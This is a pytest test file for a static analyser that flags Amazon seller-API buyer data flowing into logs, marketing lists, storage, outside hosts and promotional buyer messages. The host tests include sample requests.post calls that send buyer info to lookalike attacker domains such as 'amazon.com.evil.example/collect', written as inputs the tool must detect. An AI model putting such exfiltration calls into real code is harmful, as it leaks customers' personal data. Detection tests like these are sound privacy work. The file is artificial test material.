"""Analysis depth (issue 2): sanitizers per rule, the consent guard, one finding per (rule, sink),
the trace, the message, AMZ006 with text from another module, permitted and outside hosts."""

from __future__ import annotations

import textwrap

import pytest

from auditor.testing import audit, check, check_files

SINKS = """
import hashlib
import hmac
import logging
import sqlite3

import boto3
import mailchimp_marketing
import requests
from cryptography.fernet import Fernet
from sp_api.api import Orders

log = logging.getLogger(__name__)
mc = mailchimp_marketing.Client()
db = sqlite3.connect("crm.db")
table = boto3.resource("dynamodb").Table("buyers")
info = Orders().get_order_buyer_info("1").payload
"""


# ---------------------------------------------------------------- sanitizers per rule


def test_mask_clears_log_and_third_party_not_marketing_or_storage():
    check(
        SINKS
        + """
def mask_email(e):
    return e[:2] + "***"


masked = mask_email(info["BuyerEmail"])
log.info("buyer %s", masked)
requests.post("https://hooks.crm.example.com/buyers", json={"email": masked})
mc.lists.add_list_member("l1", {"email_address": masked})  # expect: AMZ001
db.execute("INSERT INTO buyers (email) VALUES (?)", (masked,))  # expect: AMZ003
"""
    )


def test_without_mask_every_rule_fires():
    check(
        SINKS
        + """
email = info["BuyerEmail"]
log.info("buyer %s", email)  # expect: AMZ005
requests.post("https://hooks.crm.example.com/buyers", json={"email": email})  # expect: AMZ004
mc.lists.add_list_member("l1", {"email_address": email})  # expect: AMZ001
db.execute("INSERT INTO buyers (email) VALUES (?)", (email,))  # expect: AMZ003
"""
    )


@pytest.mark.parametrize(
    "name",
    [
        "mask_email",
        "redact",
        "redact_address",
        "anonymize_buyer",
        "anonymise",
        "pseudonymize_name",
        "scrub_pii",
        "_mask",
    ],
)
def test_masking_function_names(name):
    check(
        SINKS
        + f"""
def {name}(value):
    return "***"


log.info("buyer %s", {name}(info["BuyerEmail"]))
log.info("buyer %s", info["BuyerEmail"])  # expect: AMZ005
"""
    )


def test_function_not_named_like_masking_is_not_a_sanitizer():
    check(
        SINKS
        + """
def format_email(value):
    return value.strip().lower()


log.info("buyer %s", format_email(info["BuyerEmail"]))  # expect: AMZ005
"""
    )


def test_mask_from_other_module_clears_log():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/privacy.py": """
            def mask_email(e):
                name, _, domain = e.partition("@")
                return name[:1] + "***@" + domain
        """,
            "shop/sync.py": """
            import logging

            from sp_api.api import Orders

            from shop.privacy import mask_email

            log = logging.getLogger(__name__)


            def run(order_id):
                info = Orders().get_order_buyer_info(order_id).payload
                log.info("buyer %s", mask_email(info["BuyerEmail"]))
                log.info("buyer %s", info["BuyerName"])  # expect: AMZ005
        """,
        }
    )


def test_mask_of_other_value_does_not_clear():
    check(
        SINKS
        + """
def mask_email(e):
    return e[:2] + "***"


email = info["BuyerEmail"]
masked = mask_email(email)
log.info("buyer %s", email)  # expect: AMZ005
log.info("buyer %s %s", masked, info["BuyerName"])  # expect: AMZ005
log.info("buyer %s", masked)
"""
    )


def test_sha256_clears_log_and_third_party_not_storage_or_marketing():
    check(
        SINKS
        + """
digest = hashlib.sha256(info["BuyerEmail"].encode()).hexdigest()
log.info("buyer %s", digest)
requests.post("https://hooks.crm.example.com/buyers", json={"h": digest})
db.execute("INSERT INTO buyers (h) VALUES (?)", (digest,))  # expect: AMZ003
mc.lists.add_list_member("l1", {"email_address": digest})  # expect: AMZ001
"""
    )


def test_md5_hexdigest_inline_clears_log_only():
    check(
        SINKS
        + """
log.info("buyer %s", hashlib.md5(info["BuyerEmail"].encode()).hexdigest())
table.put_item(Item={"h": hashlib.md5(info["BuyerEmail"].encode()).hexdigest()})  # expect: AMZ003
"""
    )


def test_fernet_encrypt_clears_storage_not_marketing():
    check(
        SINKS
        + """
token = Fernet(b"k" * 44).encrypt(info["BuyerEmail"].encode())
table.put_item(Item={"email": token})
db.execute("INSERT INTO buyers (email) VALUES (?)", (token,))
table.put_item(Item={"email": info["BuyerEmail"]})  # expect: AMZ003
mc.lists.add_list_member("l1", {"email_address": token})  # expect: AMZ001
"""
    )


def test_fernet_held_in_variable_clears_storage():
    check(
        SINKS
        + """
f = Fernet(Fernet.generate_key())
enc_name = f.encrypt(info["BuyerName"].encode())
db.execute("INSERT INTO buyers (name) VALUES (?)", (enc_name,))
db.execute("INSERT INTO buyers (name) VALUES (?)", (info["BuyerName"],))  # expect: AMZ003
"""
    )


def test_hmac_clears_storage_not_marketing():
    check(
        SINKS
        + """
key = hmac.new(b"secret-from-kms", info["BuyerEmail"].encode(), hashlib.sha256).hexdigest()
db.execute("INSERT INTO buyers (k) VALUES (?)", (key,))
table.put_item(Item={"k": key})
mc.lists.add_list_member("l1", {"email_address": key})  # expect: AMZ001
db.execute("INSERT INTO buyers (e) VALUES (?)", (info["BuyerEmail"],))  # expect: AMZ003
"""
    )


def test_sanitizer_after_the_sink_does_not_clear():
    check(
        SINKS
        + """
email = info["BuyerEmail"]
log.info("buyer %s", email)  # expect: AMZ005
email = hashlib.sha256(email.encode()).hexdigest()
log.info("buyer %s", email)
"""
    )


# ---------------------------------------------------------------- consent guard

CONSENT = """
import mailchimp_marketing
from sp_api.api import Orders

mc = mailchimp_marketing.Client()


def subscribe(customer, order_id):
    info = Orders().get_order_buyer_info(order_id).payload
    if customer.accepts_marketing:
        mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
"""


def test_consent_guarded_sink_is_reported_as_note():
    findings = check(CONSENT)
    (f,) = findings
    assert f.level == "note"
    assert f.consent_guarded is True
    assert "consent" in f.message.lower()


def test_consent_guarded_sink_strict_is_error():
    findings = check(CONSENT, strict_consent=True)
    (f,) = findings
    assert f.level == "error"


def test_unguarded_sink_is_not_a_note():
    findings = check("""
        import mailchimp_marketing
        from sp_api.api import Orders

        mc = mailchimp_marketing.Client()


        def subscribe(customer, order_id):
            info = Orders().get_order_buyer_info(order_id).payload
            if info["OrderStatus"] == "Shipped":
                mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
    """)
    (f,) = findings
    assert f.level == "error"
    assert f.consent_guarded is False


@pytest.mark.parametrize(
    "condition",
    [
        "customer.opt_in",
        "customer.opted_in",
        "customer.marketing_consent",
        "prefs['sms_consent']",
        "prefs.get('consent')",
        "customer.accepts_marketing and info['OrderStatus'] == 'Shipped'",
    ],
)
def test_consent_words(condition):
    src = f"""
import mailchimp_marketing
from sp_api.api import Orders

mc = mailchimp_marketing.Client()


def subscribe(customer, prefs, order_id):
    info = Orders().get_order_buyer_info(order_id).payload
    if {condition}:
        mc.lists.add_list_member("l1", {{"email_address": info["BuyerEmail"]}})  # expect: AMZ001
"""
    (f,) = check(src)
    assert f.level == "note"
    assert f.consent_guarded is True


def test_else_branch_and_after_consent_block_are_not_guarded():
    findings = check("""
        import mailchimp_marketing
        from sp_api.api import Orders

        mc = mailchimp_marketing.Client()


        def subscribe(customer, order_id):
            info = Orders().get_order_buyer_info(order_id).payload
            if customer.accepts_marketing:
                mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
            else:
                mc.lists.add_list_member("l2", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
            mc.lists.add_list_member("l3", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
    """)
    by_line = {f.location.line: f for f in findings}
    assert (by_line[10].level, by_line[10].consent_guarded) == ("note", True)
    assert (by_line[12].level, by_line[12].consent_guarded) == ("error", False)
    assert (by_line[13].level, by_line[13].consent_guarded) == ("error", False)


# ---------------------------------------------------------------- one finding per (rule, sink), every source


def test_two_sources_into_one_sink_give_one_finding_with_two_flows():
    findings = check("""
        import logging
        from sp_api.api import Orders

        log = logging.getLogger(__name__)
        info = Orders().get_order_buyer_info("1").payload
        addr = Orders().get_order_address("1").payload["ShippingAddress"]
        log.info("buyer %s at %s", info["BuyerEmail"], addr["AddressLine1"])  # expect: AMZ005
    """)
    (f,) = findings
    assert len(f.flows) == 2
    assert {fl.source.origin for fl in f.flows} == {"Orders.get_order_buyer_info", "Orders.get_order_address"}
    assert {fl.source.location.line for fl in f.flows} == {5, 6}


def test_helper_sink_reached_from_two_call_sites_gives_one_finding():
    findings = check("""
        import logging
        from sp_api.api import Orders

        log = logging.getLogger(__name__)


        def note(value):
            log.info("value %s", value)  # expect: AMZ005


        info = Orders().get_order_buyer_info("1").payload
        addr = Orders().get_order_address("1").payload["ShippingAddress"]
        note(info["BuyerEmail"])
        note(addr["Name"])
        note(info["AmazonOrderId"])
    """)
    (f,) = findings
    assert len(f.flows) == 2
    assert {fl.source.location.line for fl in f.flows} == {11, 12}


def test_one_source_into_two_sinks_gives_two_findings():
    findings = check("""
        import logging
        from sp_api.api import Orders

        log = logging.getLogger(__name__)
        info = Orders().get_order_buyer_info("1").payload
        log.info("buyer %s", info["BuyerEmail"])  # expect: AMZ005
        print(info["BuyerEmail"])  # expect: AMZ005
    """)
    assert len(findings) == 2
    assert all(len(f.flows) == 1 for f in findings)


def test_two_rules_at_one_sink_give_two_findings():
    findings = check("""
        import smtplib
        from email.message import EmailMessage
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        msg = EmailMessage()
        msg["To"] = info["BuyerEmail"]
        msg.set_content("Use code SAVE10 for 10% off at https://myshop.example")
        with smtplib.SMTP("mail.myshop.example") as s:
            s.send_message(msg)  # expect: AMZ002 AMZ006
    """)
    assert sorted(f.rule_id for f in findings) == ["AMZ002", "AMZ006"]


# ---------------------------------------------------------------- the trace


def _assert_well_formed(finding, lines_by_path):
    for flow in finding.flows:
        steps = flow.steps
        assert steps[0].kind == "source"
        assert steps[-1].kind == "sink"
        assert (steps[0].location.path, steps[0].location.line) == (
            flow.source.location.path,
            flow.source.location.line,
        )
        assert (steps[-1].location.path, steps[-1].location.line) == (
            finding.location.path,
            finding.location.line,
        )
        for s in steps:
            assert s.location.line >= 1 and s.location.column >= 1
            assert s.location.snippet == lines_by_path[s.location.path][s.location.line - 1]


def test_trace_crossing_a_function_has_call_step():
    src = """
        import logging
        from sp_api.api import Orders

        log = logging.getLogger(__name__)


        def note(who):
            log.info("buyer %s", who)  # expect: AMZ005


        info = Orders().get_order_buyer_info("1").payload
        email = info["BuyerEmail"]
        note(email)
    """
    (f,) = check(src)
    lines = textwrap.dedent(src).lstrip("\n").splitlines()
    _assert_well_formed(f, {"snippet.py": lines})
    (flow,) = f.flows
    kinds = [s.kind for s in flow.steps]
    assert "call" in kinds
    call = flow.steps[kinds.index("call")]
    assert call.location.line == 13
    assert flow.steps[0].location.line == 11
    assert flow.steps[-1].location.line == 8
    assert flow.steps[-1].location.column == 5
    # ordered: source, assignments, then the call, then the sink
    assert kinds.index("source") < kinds.index("call") < kinds.index("sink")


def test_trace_within_one_function_has_no_call_step():
    src = """
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        email = info["BuyerEmail"]
        print(email)  # expect: AMZ005
    """
    (f,) = check(src)
    lines = textwrap.dedent(src).lstrip("\n").splitlines()
    _assert_well_formed(f, {"snippet.py": lines})
    (flow,) = f.flows
    assert "call" not in [s.kind for s in flow.steps]
    assert [s.location.line for s in flow.steps] == sorted(s.location.line for s in flow.steps)
    assert 4 in [s.location.line for s in flow.steps]


def test_trace_across_modules_names_both_files():
    files = {
        "shop/__init__.py": "",
        "shop/amazon.py": """
            from sp_api.api import Orders


            def buyer_info(order_id):
                return Orders().get_order_buyer_info(order_id).payload
        """,
        "shop/sync.py": """
            import logging

            from shop.amazon import buyer_info

            log = logging.getLogger(__name__)


            def run(order_id):
                info = buyer_info(order_id)
                log.info("buyer %s", info["BuyerEmail"])  # expect: AMZ005
        """,
    }
    (f,) = check_files(files)
    dedented = {p: textwrap.dedent(t).lstrip("\n").splitlines() for p, t in files.items()}
    _assert_well_formed(f, dedented)
    (flow,) = f.flows
    assert flow.steps[0].location.path == "shop/amazon.py"
    assert flow.steps[0].location.line == 5
    assert flow.steps[-1].location.path == "shop/sync.py"
    assert flow.steps[-1].location.line == 10


# ---------------------------------------------------------------- the message


def test_message_names_data_origin_and_destination():
    (f,) = check("""
        import mailchimp_marketing
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        mc = mailchimp_marketing.Client()
        mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
    """)
    assert "buyer email" in f.message.lower()
    assert "Orders.get_order_buyer_info" in f.message
    assert "Mailchimp list" in f.message
    assert "lists.add_list_member" in f.message


def test_message_names_the_actual_field_and_destination():
    (f,) = check("""
        from sp_api.api import Orders

        addr = Orders().get_order_address("1").payload["ShippingAddress"]
        print(addr["Phone"])  # expect: AMZ005
    """)
    msg = f.message.lower()
    assert "phone" in msg
    assert "email" not in msg
    assert "console" in msg
    assert "mailchimp" not in msg


# ---------------------------------------------------------------- AMZ006 with text from another module


def test_amz006_constant_from_other_module_positive():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/templates.py": """
            THANKS = "Thanks for your order! Get 20% off your next one at https://myshop.example/deals"
            SHIPPED = "Your order has shipped and should arrive on Friday."
        """,
            "shop/messages.py": """
            from sp_api.api import Messaging

            from shop.templates import THANKS


            def thank(order_id):
                Messaging().create_confirm_order_details(order_id, body={"text": THANKS})  # expect: AMZ006
        """,
        }
    )


def test_amz006_constant_from_other_module_negative():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/templates.py": """
            THANKS = "Thanks for your order! Get 20% off your next one at https://myshop.example/deals"
            SHIPPED = "Your order has shipped and should arrive on Friday."
        """,
            "shop/messages.py": """
            from sp_api.api import Messaging

            from shop.templates import SHIPPED


            def notify(order_id):
                Messaging().create_confirm_delivery_details(order_id, body={"text": SHIPPED})
        """,
        }
    )


def test_amz006_module_attribute_and_format_template_positive():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/texts.py": """
            FOLLOW_UP = "Hi {name}, questions? Email us at help@myshop.example or call 555-010-0199."
            REVIEW = "Hi {name}, how was your order? You can leave feedback at https://www.amazon.com/review"
        """,
            "shop/jobs.py": """
            from sp_api.api import Messaging, Orders

            from shop import texts


            def follow_up(order_id):
                name = Orders().get_order_buyer_info(order_id).payload["BuyerName"]
                body = texts.FOLLOW_UP.format(name=name)
                Messaging().create_unexpected_problem(order_id, body={"text": body})  # expect: AMZ006
                Messaging().create_unexpected_problem(order_id, body={"text": texts.REVIEW.format(name=name)})
        """,
        }
    )


def test_amz006_relative_alias_import_positive():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/copy.py": 'PROMO = "Follow us on Instagram and use code WELCOME for a free gift"\n',
            "shop/buyer.py": """
            from sp_api.api import Messaging

            from .copy import PROMO as MESSAGE


            def send(order_id):
                Messaging().create_confirm_order_details(order_id, body={"text": "Thanks! " + MESSAGE})  # expect: AMZ006
        """,
        }
    )


def test_amz006_in_email_to_buyer_but_not_to_staff():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/copy.py": 'PROMO = "Visit our website for 15% off: https://myshop.example"\n',
            "shop/mail.py": """
            from django.core.mail import send_mail
            from sp_api.api import Orders

            from shop.copy import PROMO


            def run(order_id):
                info = Orders().get_order_buyer_info(order_id).payload
                send_mail("Thanks", PROMO, "shop@myshop.example", [info["BuyerEmail"]])  # expect: AMZ002 AMZ006
                send_mail("Campaign preview", PROMO, "shop@myshop.example", ["marketing@myshop.example"])
        """,
        }
    )


# ---------------------------------------------------------------- hosts


def test_permitted_hosts_are_clean():
    check("""
        import httpx
        import requests
        from sp_api.api import Orders

        order = Orders().get_order("1").payload
        addr = order["ShippingAddress"]
        requests.post("https://sellingpartnerapi-na.amazon.com/orders/v0/x", json=order)
        requests.post("https://sqs.us-east-1.amazonaws.com/123456789012/orders", data=str(order))
        requests.post("https://api.easypost.com/v2/shipments", json={"to_address": addr})
        httpx.post("https://api.goshippo.com/shipments/", json={"address_to": addr})
        requests.post("https://hooks.crm.example.com/orders", json=order)  # expect: AMZ004
    """)


def test_other_hosts_are_amz004():
    check("""
        import requests
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        requests.post("https://hooks.crm.example.com/buyers", json=info)  # expect: AMZ004
        requests.post("https://amazon.com.evil.example/collect", json=info)  # expect: AMZ004
        requests.post("https://notamazon.com/collect", json=info)  # expect: AMZ004
        requests.post("https://evil.example/collect?next=https://www.amazon.com", json=info)  # expect: AMZ004
        requests.post("https://easypost.com.evil.example/collect", json=info)  # expect: AMZ004
    """)


def test_host_from_variable_and_base_url():
    check("""
        import httpx
        import requests
        from sp_api.api import Orders

        EASYPOST = "https://api.easypost.com/v2"
        CRM = "https://hooks.crm.example.com"
        addr = Orders().get_order_address("1").payload["ShippingAddress"]
        requests.post(EASYPOST + "/addresses", json=addr)
        requests.post(f"{EASYPOST}/shipments", json={"to_address": addr})
        requests.post(CRM + "/addresses", json=addr)  # expect: AMZ004
        httpx.Client(base_url="https://api.easypost.com").post("/v2/addresses", json=addr)
        httpx.Client(base_url=CRM).post("/addresses", json=addr)  # expect: AMZ004
    """)


def test_pii_in_url_query_string_is_amz004():
    check("""
        import requests
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        email = info["BuyerEmail"]
        oid = info["AmazonOrderId"]
        requests.get(f"https://api.partner.example/lookup?email={email}")  # expect: AMZ004
        requests.get("https://api.partner.example/lookup?email=" + email)  # expect: AMZ004
        requests.get("https://api.partner.example/lookup", params={"email": email})  # expect: AMZ004
        requests.get("https://api.partner.example/lookup", headers={"X-Buyer": email})  # expect: AMZ004
        requests.get(f"https://api.partner.example/lookup?order={oid}")
        requests.get("https://api.partner.example/lookup", params={"order": oid})
    """)


def test_session_client_to_other_host_positive_and_amazon_negative():
    check("""
        import requests
        from sp_api.api import Orders

        session = requests.Session()
        info = Orders().get_order_buyer_info("1").payload
        session.post("https://erp.example.net/api/buyers", json=info)  # expect: AMZ004
        session.post("https://sellingpartnerapi-eu.amazon.com/x", json=info)
    """)


# ---------------------------------------------------------------- more shapes of the same items


def test_mask_applied_in_comprehension_clears_log():
    check(
        SINKS
        + """
def redact_email(e):
    return "***"


orders = Orders().get_orders(CreatedAfter="2024-01-01").payload["Orders"]
emails = [o["BuyerInfo"]["BuyerEmail"] for o in orders]
log.info("buyers %s", [redact_email(e) for e in emails])
log.info("buyers %s", emails)  # expect: AMZ005
"""
    )


def test_hash_of_whole_order_json_clears_log_not_storage():
    check(
        SINKS
        + """
import json

order = Orders().get_order("1").payload
fp = hashlib.sha256(json.dumps(order).encode()).hexdigest()
log.info("order fingerprint %s", fp)
db.execute("INSERT INTO seen (fp) VALUES (?)", (fp,))  # expect: AMZ003
"""
    )


def test_consent_checked_through_helper_function_name():
    src = """
import mailchimp_marketing
from sp_api.api import Orders

mc = mailchimp_marketing.Client()


def has_marketing_consent(customer):
    return bool(customer.get("consent"))


def subscribe(customer, order_id):
    info = Orders().get_order_buyer_info(order_id).payload
    if has_marketing_consent(customer):
        mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
"""
    (f,) = check(src)
    assert (f.level, f.consent_guarded) == ("note", True)


def test_nested_if_inside_consent_branch_is_guarded():
    src = """
import mailchimp_marketing
from sp_api.api import Orders

mc = mailchimp_marketing.Client()


def subscribe(customer, order_id):
    info = Orders().get_order_buyer_info(order_id).payload
    if customer.opted_in:
        if info["OrderStatus"] == "Shipped":
            mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
"""
    (f,) = check(src)
    assert (f.level, f.consent_guarded) == ("note", True)


def test_consent_early_return_guard():
    src = """
import mailchimp_marketing
from sp_api.api import Orders

mc = mailchimp_marketing.Client()


def subscribe(customer, order_id):
    if not customer.accepts_marketing:
        return
    info = Orders().get_order_buyer_info(order_id).payload
    mc.lists.add_list_member("l1", {"email_address": info["BuyerEmail"]})  # expect: AMZ001
"""
    (f,) = check(src)
    assert (f.level, f.consent_guarded) == ("note", True)


def test_consent_guard_on_direct_contact_sms():
    src = """
from sp_api.api import Orders
from twilio.rest import Client

sms = Client("sid", "tok")


def text_buyer(customer, order_id):
    phone = Orders().get_order(order_id).payload["ShippingAddress"]["Phone"]
    if customer.sms_consent:
        sms.messages.create(to=phone, from_="+15550100", body="Your order shipped")  # expect: AMZ002
    sms.messages.create(to=phone, from_="+15550100", body="Your order shipped")  # expect: AMZ002
"""
    findings = check(src)
    by_line = {f.location.line: f for f in findings}
    assert (by_line[10].level, by_line[10].consent_guarded) == ("note", True)
    assert by_line[11].consent_guarded is False and by_line[11].level != "note"
    strict = {f.location.line: f.level for f in audit(src, strict_consent=True)}
    assert strict[10] == strict[11] == by_line[11].level


def test_localhost_and_api_gateway_hosts():
    check("""
        import requests
        from urllib.parse import urlencode
        from sp_api.api import Orders

        info = Orders().get_order_buyer_info("1").payload
        requests.post("http://localhost:8080/buyers", json=info)
        requests.post("https://abc123.execute-api.us-east-1.amazonaws.com/prod/buyers", json=info)
        requests.get("https://api.partner.example/find?" + urlencode({"email": info["BuyerEmail"]}))  # expect: AMZ004
        requests.get("https://api.partner.example/find?" + urlencode({"order": info["AmazonOrderId"]}))
    """)


def test_amz006_constant_dict_of_templates_in_other_module():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/templates.py": """
            TEMPLATES = {
                "shipped": "Your order is on its way.",
                "promo": "Sign up for our newsletter at myshop.com and get a coupon",
            }
        """,
            "shop/messages.py": """
            from sp_api.api import Messaging

            from shop.templates import TEMPLATES


            def send(order_id, kind):
                Messaging().create_confirm_order_details(order_id, body={"text": TEMPLATES["promo"]})  # expect: AMZ006
                Messaging().create_confirm_order_details(order_id, body={"text": TEMPLATES["shipped"]})
        """,
        }
    )


def test_amz006_text_passed_through_helper_in_other_module():
    check_files(
        {
            "shop/__init__.py": "",
            "shop/copy.py": 'PROMO = "Questions? Call us at +1 555 010 0199"\nPLAIN = "Thank you for your order."\n',
            "shop/outbox.py": """
            from sp_api.api import Messaging


            def send_text(order_id, text):
                Messaging().create_confirm_order_details(order_id, body={"text": text})  # expect: AMZ006
        """,
            "shop/jobs.py": """
            from shop.copy import PLAIN, PROMO
            from shop.outbox import send_text

            send_text("1", PLAIN)
            send_text("2", PROMO)
        """,
        }
    )


def test_a_host_built_at_run_time_is_shown_with_a_wildcard():
    source = """
        import requests
        from sp_api.api import Orders


        def push(company, host):
            info = Orders().get_order_buyer_info("1").payload
            requests.post(f"https://{company}.pipedrive.com/api/v1/persons", json=info)  # expect: AMZ004
            requests.post(f"https://{host}/contacts", json=info)  # expect: AMZ004
    """
    findings = check(source)
    messages = sorted(f.message for f in findings)
    assert all("\x00" not in m for m in messages)
    assert any("(*.pipedrive.com)" in m for m in messages)
    assert any("(a URL not known statically)" in m for m in messages)
